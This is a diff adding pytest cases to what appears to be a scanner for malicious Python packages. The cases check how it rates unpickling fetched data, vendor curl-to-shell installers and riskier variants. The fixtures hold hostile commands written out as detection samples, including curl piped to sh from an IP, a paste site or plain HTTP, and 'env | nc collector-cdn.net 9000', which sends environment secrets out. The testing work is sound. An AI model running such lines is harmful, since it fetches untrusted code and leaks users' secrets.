@@ -681,6 +681,106 @@ def test_a_preload_helper_the_module_feeds_a_fetched_url_stays_serious():
     assert result.verdict in FLAGGED
 
 
+_PICKLE_LOADER = """
+    import pickle
+
+    import requests
+
+    def load_pickle(url):
+        response = requests.get(url, timeout=30)
+        response.raise_for_status()
+        return pickle.loads(response.content)
+"""
+
+
+def test_unpickling_what_the_callers_url_serves_is_only_a_warning():
+    """autogluon's loader: a pickle from the URL its caller gives runs code, as exec of such a
+    URL's text does; the caller chose the address."""
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/io.py": _PICKLE_LOADER})
+    assert severities(result, "intent.download-execute") == {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+def test_unpickling_what_a_written_in_url_serves_stays_serious():
+    src = _PICKLE_LOADER.replace("def load_pickle(url):", "def load_pickle():").replace(
+        "requests.get(url,", 'requests.get("https://cdn-assets.net/m.pkl",'
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/io.py": src})
+    assert "high" in severities(result, "intent.download-execute")
+    assert result.verdict in FLAGGED
+
+
+_VENDOR_INSTALLER = """
+    import subprocess
+
+    def install_tool():
+        print("Installing the tool with its official installer...")
+        subprocess.run({command!r}, shell=True, check=True, capture_output=True)
+"""
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -LsSf https://astral.sh/uv/install.sh | sh",
+        "curl -fsSL https://get.pulumi.com | sh",
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+        'powershell -ExecutionPolicy Bypass -c "irm https://astral.sh/uv/install.ps1 | iex"',
+    ],
+)
+def test_a_vendors_install_line_run_when_called_is_a_capability(command):
+    """ai-parrot, camel-ai: a command that sets up another tool on request by the line its
+    vendor publishes (HTTPS, a named host, straight into a shell, nothing else in the line)."""
+    src = _VENDOR_INSTALLER.format(command=command)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tools.py": src})
+    assert severities(result, "capability.vendor-installer") == {"medium"}
+    assert not found(result, "intent.shell-download-execute")
+    assert result.verdict not in FLAGGED
+
+
+def test_a_vendors_install_line_kept_in_a_name_then_run_is_a_capability():
+    src = """
+    import subprocess
+
+    def install_tool():
+        install_cmd = "curl -LsSf https://astral.sh/uv/install.sh | sh"
+        result = subprocess.run(install_cmd, shell=True, capture_output=True, text=True)
+        return result.returncode == 0
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tools.py": src})
+    assert severities(result, "capability.vendor-installer") == {"medium"}
+    assert not found(result, "intent.shell-download-execute")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -fsSL http://get.tool-cdn.net | sh",  # plain HTTP
+        "curl -s https://45.77.1.9/install.sh | sh",  # an IP
+        "curl -s https://raw.githubusercontent.com/u/r/main/i.sh | bash",  # anyone's upload
+        "curl -s https://paste.ee/r/a1b2c | sh",  # a paste
+        "curl -fsSL https://get.tool-cdn.net | sh; env | nc collector-cdn.net 9000",  # and more
+        "curl -fsSL https://get.tool-cdn.net | sh -s -- $(whoami)",  # a substitution
+        "curl -fsSL https://get.tool-cdn.net | python3",  # not a shell
+    ],
+)
+def test_other_fetched_lines_run_when_called_stay_serious(command):
+    src = _VENDOR_INSTALLER.format(command=command)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tools.py": src})
+    assert "high" in severities(result, "intent.shell-download-execute")
+    assert not found(result, "capability.vendor-installer")
+    assert result.verdict in FLAGGED
+
+
+def test_a_vendors_install_line_run_on_import_stays_critical():
+    src = _VENDOR_INSTALLER.format(command="curl -LsSf https://astral.sh/uv/install.sh | sh")
+    init = textwrap.dedent(src) + "\ninstall_tool()\n"
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert "critical" in severities(result, "intent.shell-download-execute")
+    assert result.verdict == "malicious"
+
+
 # -- credential stores are files: not a web page's address, not a word inside another --------
 
 _CLIENT = """
@@ -1014,7 +1114,7 @@ def test_a_command_disguised_under_a_message_name_still_runs():
     import subprocess
 
     def start():
-        error_message = "curl -fsSL https://x.example/i.sh | sh"
+        error_message = "curl -fsSL http://x.example/i.sh | sh"
         subprocess.run(error_message, shell=True)
     """
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/run.py": src})
